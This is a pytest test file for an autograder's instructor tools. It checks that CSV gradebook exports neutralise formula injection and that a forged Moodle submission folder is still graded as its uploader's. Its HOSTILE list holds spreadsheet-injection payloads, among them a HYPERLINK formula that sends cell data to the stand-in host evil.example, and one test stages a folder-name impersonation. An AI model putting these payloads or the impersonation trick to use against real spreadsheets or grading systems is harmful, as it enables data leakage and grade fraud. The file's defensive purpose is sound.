"""Every CSV the grader writes is spreadsheet-safe, and a forged submission folder is graded as its uploader's,
in one real batch with the reference solution."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest

from graders.exercise import load_exercise
from graders_instructor.grading.batch import Submission, csv_text, spreadsheet_safe, summary_csv
from graders_instructor.grading.gradebook import canvas_csv, moodle_csv
from graders_instructor.grading.platforms import Found
from tests.graders.grader_helpers import graders_cli

ISLANDS = load_exercise("01-islands")
REFERENCE = ISLANDS.reference.read_bytes()
WRONG = (ISLANDS.hidden_folder / "wrong" / "list-instead-of-tuple.ipynb").read_bytes()
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1", "\r=1",
           " =1+1", "\uff1d1+1", "Eve\nNew line", "a\u202eb", "=1\r\n=2"]  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def assert_safe(text: str, rows: int) -> list[list[str]]:
    """Every cell of a CSV text: one line each, none starting (after spaces) as a formula; `rows` rows."""
    assert "\r" not in text
    table = list(csv.reader(text.splitlines()))
    assert len(table) == rows and all(line.count("\n") == 0 for line in text.split("\n"))
    for row in table:
        for cell in row:
            assert cell.isprintable() and not cell.lstrip(" ").startswith(FORMULA), cell
    return table


def test_every_text_cell_is_spreadsheet_safe():
    for text in HOSTILE:
        safe = spreadsheet_safe(text)
        assert safe.isprintable() and not safe.lstrip(" ").startswith(FORMULA), safe
    assert spreadsheet_safe("=1") == "'=1" and spreadsheet_safe("Jane Doe") == "Jane Doe"
    assert spreadsheet_safe("a\nb") == "a\\nb" and spreadsheet_safe("30") == "30"
    graded = []
    for number, name in enumerate(HOSTILE):
        platform = ("canvas", "moodle")[number % 2]
        found = Found(f"{platform}-{number}", name, platform, Path(f"{name}.ipynb"), f"zip: {name}", note=name)
        data = {"score": 3, "max_score": 30, "tests": [{"status": "passed"}],
                "extra_data": {"outcome": "failed"}, "execution_time": 1.5}
        graded.append((Submission(f"s{number}", found.path, found), data))
    graded.append((Submission("loose", Path(HOSTILE[0])), graded[0][1]))
    summary = assert_safe(summary_csv(graded), len(graded) + 1)
    assert [row[2] for row in summary[1:-1]] == [spreadsheet_safe(name) for name in HOSTILE]
    canvas = assert_safe(canvas_csv(graded, HOSTILE[1], 30), 2 + len(HOSTILE[::2]))
    assert canvas[0][-1] == "'+SUM(A1:A9)"  # even the column heading (an instructor's title)
    assert_safe(moodle_csv(graded), 1 + len(HOSTILE[1::2]))
    assert csv_text([["=1", "2"]]) == "'=1,2\n"


def moodle(fullname: str, participant: int) -> str:
    """Moodle 4.1's folder for one participant's files (classes/downloader.php, load_submissionplugin_filelist)."""
    return f"{fullname}_{participant}_assignsubmission_file"


@pytest.mark.slow
def test_a_real_batch_with_hostile_names_and_a_forged_folder(tmp_path: Path):
    # Moodle's clean_filename takes "/" out of names; the rest of each hostile name stays
    members = {f"{moodle(name.replace('/', ''), 2100 + n)}/islands.ipynb": WRONG for n, name in enumerate(HOSTILE)}
    members |= {
        f"{moodle('Ada Reference', 2001)}/islands.ipynb": REFERENCE,
        f"{moodle('Jane Doe', 2007)}/islands.ipynb": WRONG,
        # Mallory uploads a folder named like Jane's submission folder (3.x spelling) holding a correct notebook
        f"{moodle('Mallory Evil', 2008)}/{moodle('Jane Doe', 2007)}_/islands.ipynb": REFERENCE,
    }
    moodle_zip = tmp_path / "moodle.zip"
    with zipfile.ZipFile(moodle_zip, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    canvas_zip = tmp_path / "canvas.zip"
    with zipfile.ZipFile(canvas_zip, "w") as archive:
        archive.writestr("doejane_1001_5001_islands.ipynb", REFERENCE)
    loose = tmp_path / "=1+1\t.ipynb"
    loose.write_bytes(REFERENCE)
    out = tmp_path / "out"
    run = graders_cli("grade", "01-islands", str(moodle_zip), str(canvas_zip), str(loose), "--out", str(out),
                      "--jobs", "2", "--canvas-assignment", "=42", "--timeout", "20", cwd=tmp_path, timeout=900)
    assert run.returncode == 0, run.stderr[-3000:]
    count = len(HOSTILE) + 5
    summary = assert_safe((out / "summary.csv").read_text(encoding="utf-8"), count + 1)
    rows = {row[1]: row for row in summary[1:]}
    score = {key: json.loads((out / row[0] / "results.json").read_text())["score"] for key, row in rows.items()}
    assert score["moodle-2001"] == score["canvas-1001"] == score[spreadsheet_safe("=1+1\t")] == 30
    assert score["moodle-2008"] == 30 and score["moodle-2007"] < 30  # Mallory's upload stayed Mallory's
    assert all(score[f"moodle-{2100 + n}"] < 30 for n in range(len(HOSTILE)))
    assert_safe((out / "moodle-grades.csv").read_text(encoding="utf-8"), len(HOSTILE) + 4)
    canvas = assert_safe((out / "canvas-grades.csv").read_text(encoding="utf-8"), 3)
    assert canvas[0][-1] == "Islands (=42)" and canvas[2][0] == "doejane"
